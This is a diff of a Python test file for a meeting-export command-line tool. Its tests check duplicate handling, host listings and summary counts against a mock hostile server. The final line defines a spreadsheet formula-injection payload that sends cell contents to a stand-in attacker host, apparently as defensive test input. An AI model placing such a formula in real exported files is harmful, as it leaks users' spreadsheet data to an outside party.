@@ -91,7 +91,10 @@ def test_a_next_link_that_loops_is_refused(
     assert len(server.received) <= 4
     ids = ids_in(out)
     assert len(ids) == len(set(ids)) == (5 if pager is _the_same_page else 6)
-    assert f"Pulled {len(ids)} meetings" in stdout
+    listed = 10 if pager is _the_same_page else 9
+    assert f"Pulled {listed} meetings" in stdout
+    assert f"  left out  {listed - len(ids)} of the {listed} listed:" in stdout
+    assert f"              {listed - len(ids)} listed again" in stdout
 
 
 def test_a_listing_of_endless_pages_stops_at_the_cap(
@@ -137,23 +140,57 @@ def test_ctrl_c_stops_a_long_listing_between_pages(
     assert len(server.received) < 1000
 
 
-def test_a_meeting_listed_twice_is_written_once(
-    hostile: Callable[[Answer], HostileServer], tmp_path: Path
+def _overlapping_pages(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
+    """A listing that shifted while read: page 2 repeats 3 and 4 of page 1."""
+    if request.query.get("page") == "2":
+        return [meeting(i) for i in range(3, 7)], None
+    return [meeting(i) for i in range(5)], str(request.url.update_query(page="2"))
+
+
+def _invitee_listings(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
+    """Each host's listing holds their meetings and those they are invited to (as the API's
+    hostEmail does): a@ hosts 0 to 2 and is invited to 5 and 6, which b@ hosts with 3 and 4."""
+    b_hosts = [{**meeting(i), "hostEmail": "b@example.com"} for i in range(3, 7)]
+    if request.query.get("hostEmail") == "b@example.com":
+        return b_hosts, None
+    return [meeting(i) for i in range(3)] + b_hosts[2:], None
+
+
+@pytest.mark.parametrize(
+    ("pager", "flags", "order"),
+    [
+        (_overlapping_pages, [], range(7)),
+        (
+            _invitee_listings,
+            ["--host-email", "a@example.com", "--host-email", "b@example.com"],
+            [0, 1, 2, 5, 6, 3, 4],
+        ),
+    ],
+    ids=["pages", "hosts"],
+)
+def test_a_meeting_listed_twice_is_written_once_and_counted(
+    hostile: Callable[[Answer], HostileServer],
+    tmp_path: Path,
+    pager: Pager,
+    flags: list[str],
+    order: list[int],
 ) -> None:
-    """Pages that overlap (a listing that shifted while read) give each meeting one row."""
-
-    def overlapping(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
-        if request.query.get("page") == "2":
-            return [meeting(i) for i in range(3, 7)], None
-        return [meeting(i) for i in range(5)], str(request.url.update_query(page="2"))
-
-    server = hostile(paged(overlapping))
+    """A meeting on two pages, or in two hosts' listings, is one row (with its own host) and
+    one snapshot line; the summary counts the repeat as listed again."""
+    server = hostile(paged(pager))
     out = tmp_path / "pulled.csv"
-    code, stdout, _ = pull(server, out)
+    code, stdout, _ = pull(server, out, *flags)
     assert code == 0, stdout
-    assert ids_in(out) == [meeting(i)["id"] for i in range(7)]
+    assert ids_in(out) == [meeting(i)["id"] for i in order]
     assert len(Path(f"{out}.snapshot.jsonl").read_text().splitlines()) == 7
-    assert "Pulled 7 meetings" in stdout
+    if flags:
+        with out.open(newline="") as handle:
+            hosts = [row["hostEmail"] for row in csv.DictReader(handle)]
+        assert hosts == ["host@example.com"] * 3 + ["b@example.com"] * 4
+    assert "Pulled 9 meetings" in stdout
+    assert ": 7 rows\n" in stdout
+    assert "  left out  2 of the 9 listed:\n              2 listed again" in stdout
+    assert ": 7 meetings (bulkpatch sandbox --seed takes it)" in stdout
 
 
 @pytest.mark.parametrize(
@@ -239,14 +276,19 @@ def test_a_next_link_off_the_base_url_stops_the_pull_as_a_redirect(
 def test_items_that_are_not_meetings_are_passed_over(
     hostile: Callable[[Answer], HostileServer], tmp_path: Path, kinds: str
 ) -> None:
-    """Items that are not meeting objects (numbers, strings, null, no id) are left out, and no
-    occurrence listing is asked for them."""
+    """Items that are not meeting objects (numbers, strings, null, no id) are left out and
+    counted, and no occurrence listing is asked for them."""
     server = hostile(paged(lambda _: ([1, "x", None, {"title": "no id"}, meeting(0)], None)))  # type: ignore[list-item]
     out = tmp_path / "pulled.csv"
     code, stdout, _ = pull(server, out, "--type", kinds)
     assert code == 0, stdout
     assert ids_in(out) == [meeting(0)["id"]]
     assert len(server.received) == (1 if kinds == "series" else 2)
+    # The server answers the occurrence listing with the same page: meeting(0) again, 4 more.
+    others = 4 if kinds == "series" else 8
+    assert f"and {others} other items" in stdout
+    assert f"              {others} not meetings (no id): passed over" in stdout
+    assert ("1 listed again" in stdout) is (kinds == "both")
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
